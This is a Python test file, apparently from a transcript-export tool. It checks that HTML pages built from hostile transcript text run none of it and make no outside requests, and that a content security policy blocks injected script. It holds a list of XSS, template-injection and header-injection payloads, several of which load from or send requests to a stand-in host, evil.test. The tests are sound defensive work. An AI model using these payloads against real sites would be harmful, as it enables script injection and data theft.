"""Texts, names and columns that try to be more than text."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from selenium.common.exceptions import JavascriptException
from selenium.webdriver.common.by import By

from jobs import export
from pipeline.exports.reading.page import inline_json
from tests.conftest import tone, wait_for, write_wav
from tests.exports.reading.conftest import Browser
from tests.exports.reading.rows import segment, transcript, write_answers, write_transcripts

# Each would set `pwned`, or ask for something at evil.test, if the page took it for anything but text.
ATTACKS = [
    "<script>pwned = 1</script>",
    "</script><script>pwned = 1</script>",
    "</ScRiPt\t><script src=//evil.test/x.js></script>",
    "<!--<script>",
    "--><img src=//evil.test/x onerror=pwned=1>",
    "]]><svg onload=pwned=1>",
    "</title><script>pwned = 1</script>",
    "</textarea><iframe src=javascript:parent.pwned=1>",
    '"><img src=x onerror="pwned=1">',
    "' onmouseover='pwned=1",
    "`${pwned=1}`",
    '"});pwned=1;({"',
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    '\\");pwned=1;//',
    "\u2028pwned=1\u2029",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "<style>@import '//evil.test/x.css'</style>",
    "<link rel=prefetch href=//evil.test/x>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test/><button>",
    "<object data=//evil.test/x><embed src=//evil.test/x>",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "//evil.test/x",
    "{{constructor.constructor('pwned=1')()}}",
    "$root $data ${title} $$",
    "\u202e)1=denwp(lave\u202c",
    "\x00\x1b[31m\ufeff\ufffe",
    "a\r\nSet-Cookie: x",
    "__proto__",
    "constructor",
]
MORE_NAMES = ["#t=1.wav", "?q=1&x.wav", "%3Cscript%3E.wav", "%2e%2e.wav", "a;b,c'd.wav", ".hidden.wav", "x\\y.wav"]
NAMES = [attack.replace("/", "⁄").replace("\x00", "").replace("\n", "") for attack in ATTACKS] + MORE_NAMES

TOGETHER = 4  # in one recording
SCRIPTS = 7  # of a page, with that of its data


def hostile(attacks: Sequence[str], path: Path) -> dict[str, Any]:
    """A recording all of whose strings are attacks; each is the text of a segment."""
    said = [
        segment(
            at,
            float(at),
            at + 1.0,
            attack,
            language=attack,
            speaker=attack,
            words=[(word, at + 0.1, at + 0.2, 0.1, attack) for word in attack.split()],
            flags=[attack],
            attempts=[attack, "split"],
            kept_attempt=attack,
            retried_for=[attack],
        )
        for at, attack in enumerate(attacks)
    ]
    first, *_, last = attacks
    failed = segment(len(said), 8.0, 9.0, None, language=last, failure_code=first, failure_detail=last)
    columns = dict.fromkeys((*attacks, "__proto__", "constructor", "toString"), last)
    own = {"recording_id": first, "place": f"id:{first}", "language": first, "declared_language": last}
    own |= {"outcome": last, "failure_code": first, "failure_detail": last, "model": first, "fingerprint": last}
    return transcript(str(path), [*said, failed]) | own | columns


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    sound = write_wav(folder / "sound.wav", tone(2.0))
    (folder / "in").mkdir()
    groups = [ATTACKS[at : at + TOGETHER] for at in range(0, len(ATTACKS), TOGETHER)]
    rows = [hostile(group, folder / "in" / name) for group, name in zip(groups, NAMES, strict=False)]
    rows += [transcript(f"{folder}/in/{name}", [segment(0, 0.0, 1.0, "hello")]) for name in NAMES[len(groups) :]]
    for path in [Path(row["uri"]) for row in rows]:
        path.symlink_to(sound)
    write_transcripts(folder / "out", rows, str(folder / "in"))
    calls = [{"name": attack, "arguments": attack} for attack in ATTACKS]
    keys = {name: rows[0][name] for name in ("recording_id", "place", "uri")}
    failed = {"outcome": "failed", "failure_code": ATTACKS[0], "failure_detail": ATTACKS[1]}
    answers = [keys | {"question": one, "question_name": one, "answer": one, "tool_calls": calls} for one in ATTACKS]
    write_answers(folder / "out", [*answers, keys | failed | {"question_name": "failed"}])
    arguments = ["--input", str(folder / "out"), "--output", str(folder / "pages"), "--formats", "html"]
    assert export.main(arguments) == 0
    return folder / "pages"


def test_nothing_in_a_transcript_runs_or_leaves_the_page(browser: Browser, site: Path) -> None:
    browser.forget()
    browser.open(site / "index.html")
    rows = wait_for(lambda: browser.driver.find_elements(By.CSS_SELECTOR, "#rows a"), 10)
    assert len(rows) == len(NAMES)
    shown = "return [...document.querySelectorAll(arguments[0])].map((one) => one.textContent)"
    wait_for(lambda: all(browser.run(shown, ".snippet")), 10)
    links = browser.run("return [...document.querySelectorAll('#rows a')].map((link) => link.href)")
    files = [Path(unquote(urlsplit(link).path)) for link in links]
    assert set(files) == set((site / "recordings").glob("*"))
    assert {path.read_text("utf-8").lower().count("<script") for path in files} == {SCRIPTS}
    attacked = [link for link, path in zip(links, files, strict=True) if "hello" not in path.read_text("utf-8")]
    foreign = "iframe, img, object, embed, form, style, base, svg, link:not([href*='page/'])"
    seen = set()
    for link in attacked + [link for link in links if link not in attacked][::4]:
        browser.driver.get(link)
        wait_for(lambda: browser.run("return document.getElementById('audio').readyState") > 0, 10)
        assert browser.run("return [typeof pwned, document.scripts.length]") == ["undefined", SCRIPTS]
        assert browser.run("return document.querySelectorAll(arguments[0]).length", foreign) == 0
        seen |= set(browser.run(shown, ".text"))
    assert seen == {*ATTACKS, "hello", "not transcribed"}
    assert browser.complaints() == []
    own = (site.as_uri(), f"{site.parent.as_uri()}/in/")
    assert [address for address in browser.requests() if not address.startswith(own)] == []


@pytest.mark.parametrize("page", ["index.html", "recordings/.hidden.html"])
def test_the_policy_would_stop_what_got_in(browser: Browser, site: Path, page: str) -> None:
    """Were there a hole in the page, nothing would come of it."""
    browser.open(site / page)
    browser.forget()
    for hole in (
        "document.body.innerHTML = '<img src=x onerror=pwned=1>'",
        "document.body.setAttribute('onclick', 'pwned = 1')",
        "document.createElement('script').src = 'https://evil.test/x.js'",
        "document.write('<script>pwned = 1</script>')",
    ):
        with pytest.raises(JavascriptException, match="Trusted"):
            browser.run(hole)
    browser.run("new Image().src = 'https://evil.test/x'; fetch('https://evil.test/').catch(() => 0)")
    browser.run(
        "document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:pwned=1', id: 'hole'}))"
    )
    browser.run("document.getElementById('hole').click()")
    said: list[str] = []
    for blocked in ("TrustedHTML", "TrustedScript", "Connecting to", "Loading the image", "Running the JavaScript URL"):
        wait_for(lambda blocked=blocked: said.extend(browser.complaints()) or any(blocked in one for one in said), 10)
    assert browser.run("return typeof pwned") == "undefined"
    assert not [address for address in browser.requests() if "evil.test" in address]


def test_no_tag_comment_or_line_ends_data() -> None:
    text = inline_json({attack: [attack] for attack in ATTACKS})
    assert not set("<>&\u2028\u2029\n\r") & set(text)
